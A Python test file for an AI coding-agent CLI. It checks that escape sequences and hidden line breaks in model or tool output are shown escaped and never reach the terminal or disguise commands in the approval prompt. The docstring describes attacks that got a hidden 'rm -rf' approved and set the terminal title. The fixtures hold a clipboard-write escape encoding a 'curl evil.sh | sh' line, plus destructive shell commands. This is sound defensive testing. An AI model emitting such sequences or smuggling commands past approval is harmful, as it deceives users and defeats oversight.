"""The terminal obeys only catcode (issue 32 §8): text from the model or a tool never drives it, and the permission
question shows what will run.

The attacks: ``ls -la <CR>; rm -rf x`` (also with U+2028, U+0085, VT, FF, or CR and ``ESC[2K``) was asked about as
``ls -la`` and both ran after ``y``; an OSC title sequence in the model's reply and in a tool's live output set the
terminal's title (an OSC 52 clipboard write would have gone through the same way). Every path text from the model
or a tool takes to the screen is driven here with hostile text, through the console the front ends use."""

from __future__ import annotations

import io
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from rich.text import Text

from catcode.cli.print_events import PrintEvents
from catcode.conversation.messages import Message, Role, TextBlock, ToolResultBlock, ToolUseBlock
from catcode.extensions.subagents.progress import LiveProgress, PlainProgress
from catcode.safety.permissions import ApprovalRequest
from catcode.screen import Screen
from catcode.text import HIDDEN, visible
from catcode.tools.base import ToolResult
from catcode.tools.shell import bash
from catcode.ui.approval import SHOWN_LINES, TerminalApprover, argument_lines
from catcode.ui.full_output import FullOutput
from catcode.ui.progress import ToolProgress, _ToolView
from catcode.ui.render import MarkdownStream, PlainStream, error_text, result_text, tool_call_text
from catcode.ui.replay import key_argument_for, show_conversation

OSC_TITLE = "\x1b]0;pwned\x07"
OSC_CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"
HOSTILE = f"before {OSC_TITLE} middle {OSC_CLIPBOARD} \x1b[2J\x1b[31mred\x9b31m\r\x1b[2Kafter\u2028\u202eend"


class Terminal(io.StringIO):
    """What a process writes to a terminal (``isatty`` is what decides how text is written)."""

    def isatty(self) -> bool:
        return True


def screen(*, colour: bool = False) -> tuple[Screen, io.StringIO]:
    """The console of the REPL writing to a terminal: no colour, so that any escape at all is a leak."""
    out = Terminal()
    return Screen(file=out, force_terminal=True, color_system="truecolor" if colour else None, width=70), out


def answered(command: str) -> str:
    con, out = screen()
    TerminalApprover(con, lambda _: "n").ask(ApprovalRequest(bash, {"command": command}))
    return out.getvalue()


@pytest.mark.parametrize("separator", ["\r", "\u2028", "\x85", "\x0b", "\x0c", "\r\x1b[2K", "\u2029", "\x1b[1A"])
def test_the_question_shows_all_of_a_command_split_by_a_hidden_line_break(separator: str) -> None:
    shown = answered(f"ls -la{separator}; rm -rf x")
    assert f"  command: ls -la{visible(separator, exact=True)}; rm -rf x\n" in shown
    assert HIDDEN.search(shown) is None


def test_the_question_shows_every_line_of_a_command_and_says_how_many_more() -> None:
    shown = answered("echo one\necho two\r\nrm -rf ~")
    assert "  command: (3 lines)\n    echo one\n    echo two␍\n    rm -rf ~\n" in shown
    long = "\n".join(f"echo {i}" for i in range(SHOWN_LINES + 7))
    shown = answered(long)
    assert f"    echo {SHOWN_LINES - 1}\n    … 7 more lines not shown\n" in shown


def test_a_long_line_is_wrapped_not_cut_and_past_the_limit_is_said() -> None:
    shown = answered("true " + "x" * 300 + " ; rm -rf x")
    assert "; rm -rf x" in shown and "…" not in shown
    shown = answered("true " + "x" * 20_000)
    assert "… 12,005 more characters of that line not shown" in shown


def test_other_arguments_and_previews_are_shown_visible_too() -> None:
    con, out = screen()
    lines = argument_lines({"description": f"list {OSC_TITLE}", "timeout": 30, "env": {"A": "\x1b]52;c;x\x07"}})
    con.print(lines)
    assert "description: list ␛]0;pwned␇" in out.getvalue() and HIDDEN.search(out.getvalue()) is None


def _draw_every_path(text: str, tmp_path: Path) -> tuple[str, str]:
    """``text`` (from the model or a tool) through every way it reaches the screen; what the screen got, and
    what the pager of Ctrl+O would be given."""
    con, out = screen()
    stream = MarkdownStream(con)
    for piece in (text[: len(text) // 2], text[len(text) // 2 :], "\n\nlast block\n"):
        stream.feed(piece)
    stream.finish()
    con.print(tool_call_text(text[:30] or "bash", text))
    con.print(result_text(ToolResult(text), 6))
    con.print(result_text(ToolResult(text, is_error=True), 2))
    con.print(error_text(text))
    progress = ToolProgress(con)
    progress.label = tool_call_text("bash", text).plain
    progress.feed(text)
    progress.feed("\n" + text)
    con.print(_ToolView(progress))  # the live view's content, as its Live draws it
    board = LiveProgress(Screen(file=out, force_terminal=False, color_system=None, width=70))  # its Live: silent
    with board.shown():
        line = board.add(text)
        line.update(text)
        con.print(board._render())  # what its Live shows
        line.done(text)
    PlainProgress(lambda said: con.file.write(said + "\n")).add(text).done(text)
    con.print(argument_lines({"command": text, "other": text}))
    plain = PlainStream(con)
    plain.feed(text)
    plain.finish()
    PrintEvents("text", out=con.file, err=con.file).answer(text)
    messages = [
        Message.user(text),
        Message(role=Role.ASSISTANT, content=[TextBlock(text=text), ToolUseBlock(id="t1", name="bash", input={})]),
        Message(role=Role.USER, content=[ToolResultBlock(tool_use_id="t1", content=text)]),
    ]
    show_conversation(con, messages, key_argument_for(None))
    con.print(Text(text))  # no path made it visible: the console is the net
    con.print(text, markup=False)
    full = FullOutput(tmp_path / "tool-output")
    full.begin(f"Bash({text})")
    full.feed(text)
    full.end("exit code: 0")
    return out.getvalue(), full.text()


TEXT = st.lists(
    st.one_of(
        st.characters(codec="utf-8", exclude_characters="\x00"),
        st.sampled_from(["\x1b", "\x07", "\r", "\n", "\x9b", "\x9d", "\u2028", "\x85", "\x0b", "\x08", "\u202e"]),
        st.sampled_from([OSC_TITLE, OSC_CLIPBOARD, "\x1b[2K", "\x1b[31m", "\x1bP1$r\x1b\\", "\x1b]8;;http://x\x07"]),
        st.sampled_from(["# ", "```\n", "\n\n", "- ", "`", "**", "[a](", ")"]),  # Markdown around them
    ),
    max_size=40,
).map("".join)


@settings(suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(text=TEXT)
def test_no_control_character_from_the_model_or_a_tool_reaches_the_screen(text: str, tmp_path: Path) -> None:
    drawn, paged = _draw_every_path(text, tmp_path)
    assert HIDDEN.search(drawn) is None
    assert HIDDEN.search(paged) is None


def test_hostile_text_is_shown_escaped_where_catcode_draws_in_colour(tmp_path: Path) -> None:
    con, out = screen(colour=True)
    stream = MarkdownStream(con)
    stream.feed(f"Here it is: {HOSTILE}\n\n")
    stream.finish()
    con.print(result_text(ToolResult(HOSTILE), 6))
    drawn = out.getvalue()
    assert "␛]0;pwned␇" in drawn and "␛]52;c;" in drawn and "\\x9b31m" in drawn and "\\u202e" in drawn
    assert "\x1b]" not in drawn and "\x9b" not in drawn and "\x07" not in drawn
    assert "\x1b[" in drawn  # catcode's own styles still reach the terminal


def test_print_mode_shows_escapes_on_a_terminal_and_keeps_the_bytes_in_a_pipe() -> None:
    shown, piped = Terminal(), io.StringIO()
    PrintEvents("text", out=shown).answer(HOSTILE)
    PrintEvents("text", out=piped).answer(HOSTILE)
    assert HIDDEN.search(shown.getvalue()) is None and "␛]0;pwned␇" in shown.getvalue()
    assert piped.getvalue() == HOSTILE + "\n"  # a script reading the answer gets it as the model wrote it


def test_memory_show_shows_a_memory_s_escapes(tmp_path: Path) -> None:
    from catcode.commands.registry import CommandContext, CommandRegistry
    from catcode.memory.builder import build_memory_runtime
    from catcode.memory.commands import register_memory_commands
    from catcode.memory.service import MemoryDoor
    from catcode.memory.store.models import MemoryEntry, MemoryType
    from catcode.safety.trusted_settings import load_settings
    from catcode.settings.config import resolve_paths

    home, root = tmp_path / "home", tmp_path / "project"
    root.mkdir()
    settings = load_settings(home, root, {"CATCODE_USER_ID": "tester"}, {})
    runtime = build_memory_runtime(settings, resolve_paths(settings, home, root))
    entry = MemoryEntry(name="odd", description=f"says {OSC_TITLE}", type=MemoryType.USER, content=HOSTILE)
    runtime.store.update(entry, why="save")
    registry = CommandRegistry()
    register_memory_commands(registry, MemoryDoor(runtime))
    con, out = screen()
    for line in ("/memory show odd", "/memory list", "/memory log"):
        registry.dispatch(line, CommandContext(None, con, lambda _: False))
    assert "␛]52;c;" in out.getvalue() and "says ␛]0;pwned␇" in out.getvalue()
    assert HIDDEN.search(out.getvalue()) is None
